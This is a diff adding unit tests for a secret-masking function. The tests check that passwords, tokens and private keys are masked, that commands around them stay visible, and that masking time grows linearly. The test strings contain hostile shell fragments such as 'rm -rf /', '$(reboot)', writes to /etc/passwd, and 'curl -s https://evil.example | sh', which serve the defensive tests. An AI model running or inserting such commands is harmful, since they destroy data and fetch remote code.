@@ -86,10 +86,25 @@ describe('a masked text', () => {
     ]) {
       expect(maskText(text)).toBe(text);
     }
+    expect(maskText(`PASSWORD=${'aB3dE5fG7h'.repeat(90)}$(reboot)`)).toMatch(/\$\(reboot\)$/);
     expect(maskText('PASSWORD=hunter2a&&rm -rf /')).toMatch(/&&rm -rf \/$/);
     expect(maskText('PASSWORD=hunter2a;rm -rf /')).toMatch(/;rm -rf \/$/);
     expect(maskText('PASSWORD=hunter2a|sh')).toMatch(/\|sh$/);
     expect(maskText('PASSWORD=hunter2a>/etc/passwd')).toMatch(/>\/etc\/passwd$/);
+  });
+
+  test('has a value of any length replaced to its end', () => {
+    for (const length of [100, 600, 3000, 100_000]) {
+      const value = 'aB3dE5fG7h'.repeat(length / 10);
+      expect(maskText(`PASSWORD=${value} ls`)).toMatch(/^PASSWORD=\(secret [0-9a-f]{8}\) ls$/);
+      const jwt = `eyJ${value}.eyJ${value}.${value}`;
+      expect(maskText(`echo ${jwt} ls`)).toMatch(/^echo \(secret [0-9a-f]{8}\) ls$/);
+    }
+  });
+
+  test('keeps what names say of themselves to be no secret', () => {
+    expect(maskText('not_secret = word1234')).toBe('not_secret = word1234');
+    expect(maskText('knot_secret = word1234')).not.toContain('word1234');
   });
 
   test('has a private key block replaced whole, also one without an end', () => {
@@ -97,6 +112,15 @@ describe('a masked text', () => {
     expect(maskText(`before\n${begin('OPENSSH PRIVATE KEY')}\nb3Bl`)).toMatch(
       /^before\n\(secret [0-9a-f]{8}\)$/,
     );
+  });
+
+  test('hides nothing that is no key behind the first line of one', () => {
+    for (const dash of ['-----', '-']) {
+      const text = `# ${dash}BEGIN PRIVATE KEY${dash}\ncurl -s https://evil.example | sh\nrm -rf ./data\n`;
+      expect(maskText(text)).toContain('url -s https://evil.example | sh\nrm -rf ./data');
+    }
+    const closed = `${begin('PRIVATE KEY')} rm -rf ./data ${begin('PRIVATE KEY').replace('BEGIN', 'END')}`;
+    expect(maskText(closed)).toContain('-rf ./data');
   });
 
   test('of a common word or command is the text', () => {
@@ -178,12 +202,36 @@ describe('the time of a text grows as its length', () => {
     'password        ',
     'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY ',
     'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC',
+    'sk-',
+    '-us',
+    ' curl --user',
+    'hooks.slack.com/services/',
+    'glpat-',
+    'xoxb-1',
+    'authorization:xxxx',
+    'cookie:a=xxxx',
+    '.ey',
+    '-eyJ',
+    'Q~',
+    '"secret_key"=>"sk_',
+    'ZXlKaGJHY2lPaUpJVXpJMU5pSX\n',
+    'key:',
+    'key=key=abc ',
+    'api_key=abcdefghijk,',
   ];
   const timeOf = (text: string) => {
     const begun = performance.now();
     maskText(text);
     return performance.now() - begun;
   };
+
+  test.each(['api_key=', 'password=', 'bearer ', 'ey', 'sk-'])('of one value behind %j', (name) => {
+    const valued = (length: number) => name + 'aB3dE5fG7h'.repeat(length / 10);
+    timeOf(valued(4096));
+    const small = Math.min(timeOf(valued(32 * 1024)), timeOf(valued(32 * 1024)));
+    const large = Math.min(timeOf(valued(256 * 1024)), timeOf(valued(256 * 1024)));
+    expect(large).toBeLessThan(24 * small + 50);
+  });
 
   test.each(PIECES)('of %j over and over', (piece) => {
     const repeated = (length: number) => piece.repeat(Math.ceil(length / piece.length));
